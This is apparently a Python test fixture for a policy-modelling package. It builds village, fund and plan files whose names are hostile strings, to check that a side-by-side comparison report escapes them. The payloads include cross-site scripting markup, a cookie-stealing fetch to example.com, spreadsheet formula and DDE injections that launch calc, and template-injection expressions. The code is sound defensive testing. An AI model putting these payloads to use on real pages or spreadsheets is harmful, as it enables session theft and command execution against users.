# SPDX-License-Identifier: Apache-2.0
"""Names that would act: as markup, as a script, as a formula, as a blank of a template.

>>> names = hostile_names(250)
>>> len(set(names)), max(map(len, names)) <= 200
(250, True)
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from itertools import cycle, islice, product
from pathlib import Path
from typing import Final

import jknmodel as jkn
from jknmodel.study.side_by_side import SideBySide, side_by_side
from whole import WHOLE

PLANS: Final = 3
#: 504 payloads in all, 160 in `./jkn test`.
VILLAGES, LEVERS, FUNDS = (40, 28, 17) if WHOLE else (10, 8, 5)
#: Names of a place and three plans of this size.
COUNT: Final = 2 + 4 * VILLAGES + FUNDS + 3 + 2 * LEVERS + (PLANS - 1) * (2 + 3 + 2 * 1)

_ACTS: Final = (
    "alert(1)", "fetch('http://example.com/'+document.cookie)", "location='http://example.com'",
    "window.acted=1", "top.acted=1",
)  # fmt: skip
_MARKUP: Final = (
    "<script>{}</script>", "</script><script>{}</script>", "</title><script>{}</script>",
    "</style><script>{}</script>", "</svg><script>{}</script>", "<svg onload={}>",
    "</symbol><script>{}</script>", "</main></body></html><script>{}</script>",
    "--><script>{}</script>", "<img src=x onerror={}>", '"><img src=x onerror={}>',
    "'><img src=x onerror={}>", "<iframe src=javascript:{}></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>", "<a href=javascript:{}>x</a>",
    "<details open ontoggle={}>", "<body onload={}>", "<input autofocus onfocus={}>",
    '" onmouseover="{}', "' onmouseover='{}", "` onmouseover=`{}",
    "<svg><animate onbegin={} attributeName=x></svg>", "<math><mtext><script>{}</script></math>",
    "<object data=javascript:{}></object>", "<video><source onerror={}></video>",
    "<SCRIPT>{}</SCRIPT>", "<scr<script>ipt>{}</scr</script>ipt>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "<template><script>{}</script></template>", "<!--<script>{}</script>-->",
    "<form action=http://example.com><button formaction=javascript:{}>x</button>",
    "<base href=http://example.com/><script>{}</script>", "<style onload={}></style>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<link rel=stylesheet onerror={}>",
    '<use href="data:image/svg+xml,<svg onload={}>"/>',
    "<textarea></textarea><script>{}</script>",
)  # fmt: skip
_FORMULAS: Final = (
    "=1+{n}", "+1+{n}", "-1-{n}", "@SUM({n})", "\uff1d1+{n}", "\uff0b{n}", "\uff20SUM({n})",
    '=HYPERLINK("http://example.com/{n}")', "=cmd|' /C calc'!A{n}", "x;=1+{n}", "x,=1+{n}",
    "x|=1+{n}", '=WEBSERVICE("http://example.com/{n}")', "=IMPORTXML({n})", "'=1+{n}", '"=1+{n}',
    '=DDE("cmd";"/C calc";"{n}")', "==1+{n}", " =1+{n}", "%=1+{n}",
)  # fmt: skip
_BLANKS: Final = (
    "{{{{ {n} * 7 }}}}", "{{% for x in range({n}) %}}x{{% endfor %}}", "{{# {n} #}}",
    "{{{n}.__class__}}", "{{place{n}}}", "%(place{n})s %s %d", "${{{n}*7}}",
    "$x^{n}$ and $\\frac{{1}}{{2}}$", "<%= {n} %>", "#{{{n}}}",
)  # fmt: skip


def hostile_names(count: int) -> list[str]:
    """So many different names with two payloads each: what acts at a start, and markup behind."""
    markup = [shape.format(act) for act, shape in product(_ACTS, _MARKUP)]
    formulas = [shape.format(n=n) for n, shape in product(range(1, 40), _FORMULAS)]
    blanks = [shape.format(n=n) for n, shape in product(range(1, 40), _BLANKS)]
    starts = (name for pair in zip(formulas, blanks, strict=False) for name in pair)
    names = (f"{start} {inside}" for start, inside in zip(starts, cycle(markup), strict=False))
    return list(islice(dict.fromkeys(" ".join(name.split()) for name in names), count))


def q(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)


def place_of(names: Iterator[str]) -> str:
    rows = [
        f"schema = 1\nname = {q(next(names))}\nregion = {q(next(names))}\n"
        'opening = "2025-06"\nminimum_wage = 3_876_600\nprior = "nation"\n'
        'question = ["arrears", "budget"]\n'
        '[population]\nvalue = 127_018\nas_of = "2025"\nsource = "x"\n'
        '[[evidence]]\nfigure = "coverage"\nvalue = 0.98\nhalf_width = 0.0005\nunit = "share"\n'
        'base = "population"\nas_of = "2025"\nsource = "x"\n'
        '[[evidence]]\nfigure = "active_rate"\nvalue = 0.8\nhalf_width = 0.0005\nunit = "share"\n'
        'base = "population"\nas_of = "2025"\nsource = "x"\n'
    ]
    rows += [
        '[[evidence]]\nfigure = "owing"\nsegment = ["PBPU", "BP"]\ndeciles = [1, 5]\n'
        f"village = {q(next(names))}\nvalue = {6 + at}\nhalf_width = 0.5\n"
        f'unit = "people"\nas_of = "2025-06"\nsource = {q(next(names))}\n'
        f"source_id = {q(next(names))}\nwords = {q(next(names))}\n"
        for at in range(VILLAGES)
    ]
    return "".join(rows)


def plan_of(names: Iterator[str], funds: int, levers: int) -> str:
    called = [next(names) for _ in range(funds)]
    rows = [
        f"schema = 1\nname = {q(next(names))}\nwords = {q(next(names))}\n"
        f"words_id = {q(next(names))}\n"
    ]
    rows += [
        f"[[fund]]\nname = {q(name)}\nyear = 2025\nsource = {q('CSR' if at else 'APBD')}\n"
        f'receipts = {{"2025-07" = {20_000_000_000 if not at else 1_000_000_000}}}\n'
        "spent_before = 0\n" + ("opening_heads = 0\n" if at else "")
        for at, name in enumerate(called)
    ]
    rows += [
        f'[[lever]]\nkind = "facility_spending"\nname = {q(next(names))}\n'
        f"words_id = {q(next(names))}\nfund = {q(called[1 + at % (funds - 1)])}\n"
        'from = "2025-07"\nuntil = "2025-07"\namount = 1_000_000\n'
        for at in range(levers)
    ]
    return "".join(rows)


def comparison(names: list[str], folder: Path) -> SideBySide:
    """A place, its villages, three plans with funds and levers: all under these names."""
    each = iter(names)
    path = folder / "place.toml"
    path.write_text(place_of(each), encoding="utf-8")
    plans = [jkn.Scenario.from_text(plan_of(each, FUNDS, LEVERS))]
    plans += [jkn.Scenario.from_text(plan_of(each, 2, 1)) for _ in range(PLANS - 1)]
    assert next(each, None) is None, "a name was not used"
    return side_by_side(jkn.Place.load(path), plans, until="2025-12")
